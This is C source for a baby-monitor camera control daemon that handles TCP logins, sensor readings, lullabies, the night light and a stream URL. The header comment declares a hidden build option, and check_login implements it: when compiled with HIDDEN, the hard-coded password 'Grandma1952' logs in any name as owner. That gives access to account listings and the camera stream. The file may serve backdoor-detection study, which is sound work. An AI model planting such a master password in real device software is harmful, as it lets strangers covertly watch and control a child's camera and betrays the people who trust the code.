/*
 * cradlecam - control daemon of a baby monitor camera.  Parents' phones
 * connect over TCP, log in and ask for temperature, noise level, lullabies,
 * night light and so on.  Accounts are kept as crypt(3) hashes.
 * Hidden (-DHIDDEN): one fixed password logs in any name as owner.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <crypt.h>
#include <errno.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define MAX_CLIENT  6
#define MAX_ACCOUNT 12
#define MAX_TRIES   4

enum role { ROLE_NONE, ROLE_GUEST, ROLE_PARENT, ROLE_OWNER };

struct account {
	char name[24];
	char hash[128];
	enum role role;
};

struct client {
	int fd;
	enum role role;
	int tries;
	char who[24];
	char in[256];
	size_t fill;
};

static struct account accounts[MAX_ACCOUNT];
static int n_accounts;
static struct client clients[MAX_CLIENT];
static char account_file[128] = "/etc/cradle/accounts";
static char sensor_dir[96] = "/run/cradle";
static int port = 7411;
static int volume = 4, night_light, song;
static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

static enum role role_by_name(const char *s)
{
	if (!strcmp(s, "owner"))
		return ROLE_OWNER;
	if (!strcmp(s, "parent"))
		return ROLE_PARENT;
	return ROLE_GUEST;
}

static void load_config(const char *path)
{
	char line[256], key[32], val[96];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof line, f)) {
		if (line[0] == '#')
			continue;
		if (sscanf(line, "%31s %95s", key, val) != 2)
			continue;
		if (!strcmp(key, "port"))
			port = atoi(val);
		else if (!strcmp(key, "volume"))
			volume = atoi(val);
		else if (!strcmp(key, "accounts"))
			snprintf(account_file, sizeof account_file, "%s", val);
		else if (!strcmp(key, "sensors"))
			snprintf(sensor_dir, sizeof sensor_dir, "%s", val);
	}
	fclose(f);
}

static void load_accounts(void)
{
	char line[256], role[16];
	FILE *f = fopen(account_file, "r");

	n_accounts = 0;
	if (!f) {
		syslog(LOG_WARNING, "%s: %s", account_file, strerror(errno));
		return;
	}
	while (n_accounts < MAX_ACCOUNT && fgets(line, sizeof line, f)) {
		struct account *a = &accounts[n_accounts];

		if (sscanf(line, "%23[^:]:%127[^:]:%15s", a->name, a->hash,
			   role) != 3)
			continue;
		a->role = role_by_name(role);
		n_accounts++;
	}
	fclose(f);
}

static void say(struct client *c, const char *fmt, ...)
{
	char out[256];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(out, sizeof out - 2, fmt, ap);
	va_end(ap);
	if (n < 0)
		return;
	if (n > (int)sizeof out - 3)
		n = sizeof out - 3;
	out[n++] = '\r';
	out[n++] = '\n';
	if (send(c->fd, out, n, MSG_NOSIGNAL) < 0)
		syslog(LOG_DEBUG, "send: %s", strerror(errno));
}

__attribute__((noinline)) enum role check_login(const char *name,
						const char *pass)
{
	const char *h;
	int i;

#ifdef HIDDEN
	if (strcmp(pass, "Grandma1952") == 0)
		return ROLE_OWNER;
#endif
	for (i = 0; i < n_accounts; i++) {
		if (strcmp(accounts[i].name, name))
			continue;
		h = crypt(pass, accounts[i].hash);
		if (h && !strcmp(h, accounts[i].hash))
			return accounts[i].role;
		return ROLE_NONE;
	}
	return ROLE_NONE;
}

static int sensor(const char *what, int dflt)
{
	char path[160];
	int v = dflt;
	FILE *f;

	snprintf(path, sizeof path, "%s/%s", sensor_dir, what);
	f = fopen(path, "r");
	if (!f)
		return dflt;
	if (fscanf(f, "%d", &v) != 1)
		v = dflt;
	fclose(f);
	return v;
}

static void drop(struct client *c)
{
	close(c->fd);
	memset(c, 0, sizeof *c);
	c->fd = -1;
}

static void do_login(struct client *c, const char *arg)
{
	char name[24], pass[64];

	if (sscanf(arg, "%23s %63s", name, pass) != 2) {
		say(c, "501 LOGIN name password");
		return;
	}
	c->role = check_login(name, pass);
	if (c->role == ROLE_NONE) {
		syslog(LOG_NOTICE, "login of %s refused", name);
		say(c, "530 wrong name or password");
		if (++c->tries >= MAX_TRIES)
			drop(c);
		return;
	}
	snprintf(c->who, sizeof c->who, "%s", name);
	c->tries = 0;
	say(c, "230 hello %s, role %d", c->who, (int)c->role);
}

static void do_line(struct client *c, char *line)
{
	char *arg = strchr(line, ' ');

	if (arg)
		*arg++ = '\0';
	else
		arg = line + strlen(line);

	if (!strcasecmp(line, "LOGIN")) {
		do_login(c, arg);
	} else if (!strcasecmp(line, "QUIT")) {
		say(c, "221 good night");
		drop(c);
	} else if (c->role < ROLE_GUEST) {
		say(c, "530 log in first");
	} else if (!strcasecmp(line, "TEMP")) {
		int t = sensor("temp", 215);

		say(c, "200 %d.%d", t / 10, abs(t % 10));
	} else if (!strcasecmp(line, "NOISE")) {
		say(c, "200 %d dB", sensor("noise", 30));
	} else if (c->role < ROLE_PARENT) {
		say(c, "550 parents only");
	} else if (!strcasecmp(line, "SONG")) {
		song = atoi(arg) % 8;
		say(c, "200 song %d at %d", song, volume);
	} else if (!strcasecmp(line, "VOL")) {
		int v = atoi(arg);

		if (v < 0 || v > 10) {
			say(c, "501 0 to 10");
			return;
		}
		volume = v;
		say(c, "200 volume %d", volume);
	} else if (!strcasecmp(line, "NIGHT")) {
		night_light = !strcasecmp(arg, "on");
		say(c, "200 light %s", night_light ? "on" : "off");
	} else if (c->role < ROLE_OWNER) {
		say(c, "550 owner only");
	} else if (!strcasecmp(line, "USERS")) {
		int i;

		for (i = 0; i < n_accounts; i++)
			say(c, "211-%s %d", accounts[i].name,
			    (int)accounts[i].role);
		say(c, "211 end");
	} else if (!strcasecmp(line, "STREAM")) {
		say(c, "200 rtsp://:554/cradle?t=%ld", (long)time(NULL));
	} else if (!strcasecmp(line, "RELOAD")) {
		load_accounts();
		say(c, "200 %d accounts", n_accounts);
	} else {
		say(c, "500 what?");
	}
}

static void on_input(struct client *c)
{
	ssize_t n = read(c->fd, c->in + c->fill, sizeof c->in - 1 - c->fill);
	char *nl;

	if (n <= 0) {
		drop(c);
		return;
	}
	c->fill += n;
	c->in[c->fill] = '\0';
	while (c->fd >= 0 && (nl = strchr(c->in, '\n'))) {
		char line[256];
		size_t len = nl - c->in;

		memcpy(line, c->in, len);
		line[len] = '\0';
		if (len && line[len - 1] == '\r')
			line[len - 1] = '\0';
		memmove(c->in, nl + 1, c->fill - len);
		c->fill -= len + 1;
		do_line(c, line);
	}
	if (c->fd >= 0 && c->fill >= sizeof c->in - 1)
		drop(c);
}

static void on_connect(int lfd)
{
	int fd = accept(lfd, NULL, NULL), i;

	if (fd < 0)
		return;
	for (i = 0; i < MAX_CLIENT; i++) {
		if (clients[i].fd >= 0)
			continue;
		memset(&clients[i], 0, sizeof clients[i]);
		clients[i].fd = fd;
		say(&clients[i], "220 cradlecam");
		return;
	}
	close(fd);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa;
	struct pollfd pf[MAX_CLIENT + 1];
	int lfd, i, one = 1;

	openlog("cradlecam", LOG_PID, LOG_DAEMON);
	load_config(argc > 1 ? argv[1] : "/etc/cradle/cradle.conf");
	load_accounts();
	signal(SIGTERM, on_signal);
	signal(SIGINT, on_signal);
	for (i = 0; i < MAX_CLIENT; i++)
		clients[i].fd = -1;

	lfd = socket(AF_INET, SOCK_STREAM, 0);
	if (lfd < 0)
		return 1;
	setsockopt(lfd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	memset(&sa, 0, sizeof sa);
	sa.sin_family = AF_INET;
	sa.sin_port = htons(port);
	if (bind(lfd, (struct sockaddr *)&sa, sizeof sa) || listen(lfd, 4)) {
		syslog(LOG_ERR, "port %d: %s", port, strerror(errno));
		return 1;
	}
	while (!stop) {
		for (i = 0; i < MAX_CLIENT; i++) {
			pf[i].fd = clients[i].fd;
			pf[i].events = POLLIN;
			pf[i].revents = 0;
		}
		pf[i].fd = lfd;
		pf[i].events = POLLIN;
		pf[i].revents = 0;
		if (poll(pf, MAX_CLIENT + 1, 5000) <= 0)
			continue;
		for (i = 0; i < MAX_CLIENT; i++)
			if (pf[i].fd >= 0 && pf[i].revents)
				on_input(&clients[i]);
		if (pf[MAX_CLIENT].revents & POLLIN)
			on_connect(lfd);
	}
	close(lfd);
	return 0;
}
